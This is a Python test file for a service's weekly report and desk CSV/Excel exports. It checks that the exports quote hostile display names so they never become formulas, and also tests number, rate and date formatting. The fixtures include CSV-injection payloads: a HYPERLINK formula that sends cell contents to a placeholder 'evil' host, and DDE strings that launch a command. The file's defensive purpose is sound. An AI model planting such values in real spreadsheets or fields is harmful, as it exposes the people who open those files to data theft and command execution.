"""Every spreadsheet we hand out, read back as Excel would: a name someone typed never becomes a formula."""
from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook
from support import staff_browser

from service.db import utcnow
from service.models import User
from service.spreadsheets import FORMULA_STARTS, append_row
from service.states import CaseState
from service.weekly import Week, build_weekly_report
from service.weekly_output import csv_text, workbook

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
# display names as hostile people would set them: each starts a formula in Excel, LibreOffice or WPS
HOSTILE = {"rider1": HYPERLINK, "rider2": "+1+cmd|' /C calc'!A0", "gw01": "@SUM(1+1)*cmd|' /C calc'!A0",
           "gw02": "-2+3+cmd|' /C calc'!A0", "staff1": "\t=1+1"}


@pytest.fixture
def hostile_names(db):
    """The demo people renamed as above for one test (the community is kept between tests: put names back)."""
    people = {u.username: u for u in db.scalars(sa.select(User).where(User.username.in_(HOSTILE)))}
    before = {name: user.display_name for name, user in people.items()}
    for name, user in people.items():
        user.display_name = HOSTILE[name]
    db.commit()
    yield HOSTILE
    for name, user in people.items():
        user.display_name = before[name]
    db.commit()


def assert_no_formula_text(value):
    assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value


def test_the_weekly_workbook_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):
    data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow(), "community:hqsq").data
    book = load_workbook(io.BytesIO(workbook(data)))
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert_no_formula_text(cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    assert "'" + HYPERLINK in texts  # the ranking's 姓名, shown as typed behind the quote
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts and "'-2+3+cmd|' /C calc'!A0" in texts  # 按处置人
    assert numbers  # the ranking's counts and the hours overdue are still numbers


def test_the_weekly_csv_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):
    data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow(), "community:hqsq").data
    rows = list(csv.reader(io.StringIO(csv_text(data).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert_no_formula_text(cell)
    assert "'" + HYPERLINK in cells and "'+1+cmd|' /C calc'!A0" in cells


def test_the_desk_export_keeps_hostile_names_as_quoted_text(app, factory, hostile_names):
    factory.case_in(CaseState.DISPATCHED, seed=900)
    text = staff_browser(app).get("/desk/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 2
    for cell in rows[1]:
        assert_no_formula_text(cell)
    assert rows[1][10].startswith("'" + HYPERLINK) and rows[1][10].endswith("138****0001")
    assert rows[1][8] == "32.015"  # a number stays a number
    assert rows[1][7] == CaseState.DISPATCHED.zh and rows[1][-1] == CaseState.DISPATCHED  # the state in words


def test_only_text_is_neutralised_and_negative_numbers_stay_numbers():
    sheet = Workbook().active
    append_row(sheet, ["=1+1", -5, -2.5, None, "#N/A", "\t@x", "plain", "-3"])
    buf = io.BytesIO()
    sheet.parent.save(buf)
    cells = list(load_workbook(buf).active.iter_rows())[0]
    assert [c.value for c in cells] == ["'=1+1", -5, -2.5, None, "#N/A", "'\t@x", "plain", "'-3"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "n", "s", "s", "s", "s"]


def test_the_weekly_workbook_keeps_numbers_rates_and_times_as_excel_does(db, week_of_cases):
    """Counts are numbers, rates fractions shown by a % format, deadlines local wall-clock datetimes with a date
    format, a missing value an empty cell: what a person can add up and sort in Excel."""
    from datetime import datetime

    data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow(), "community:hqsq").data
    book = load_workbook(io.BytesIO(workbook(data)))
    overall = book["总体"]
    header = [c.value for c in overall[1]]
    cells = dict(zip(header, overall[2]))
    assert cells["受理数"].value == 7 and cells["受理数"].data_type == "n"
    assert cells["结案率"].value == 0.75 and cells["结案率"].number_format == "0.0%"
    assert cells["按期结案率"].value == 0.5 and cells["上周结案率"].value == 0.0
    median = cells["结案用时中位数(小时)"]
    assert median.value == data["overall"]["median_hours"] and median.data_type == "n" and median.number_format == "0.0"
    deadline, hours = book["超期未结"]["E2"], book["超期未结"]["F2"]
    assert deadline.value == datetime(2026, 2, 27, 12, 0) and deadline.is_date  # Friday noon in Shanghai, not UTC
    assert deadline.number_format == "yyyy-mm-dd hh:mm"
    assert hours.value == 60 and hours.data_type == "n"
    empty = load_workbook(io.BytesIO(workbook(build_weekly_report(db, Week(2025, 1), "Asia/Shanghai",
                                                                  utcnow()).data)))["总体"]
    rates = dict(zip([c.value for c in empty[1]], empty[2]))
    assert rates["结案率"].value is None and rates["受理数"].value == 0  # nothing due: an empty cell, not "—"


def test_the_csv_of_a_week_under_way_says_so_with_local_dates(db, week_of_cases):
    from synthetic_week import local

    data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", local(2, 27, 11, 59)).data
    first = next(csv.reader(io.StringIO(csv_text(data).lstrip("\ufeff"))))
    assert first == ["随手拍周报 2026-W09 进行中（截至 02-27 11:59）", "2026-02-23 至 2026-03-01",
                     "生成于 2026-02-27 11:59（Asia/Shanghai）"]
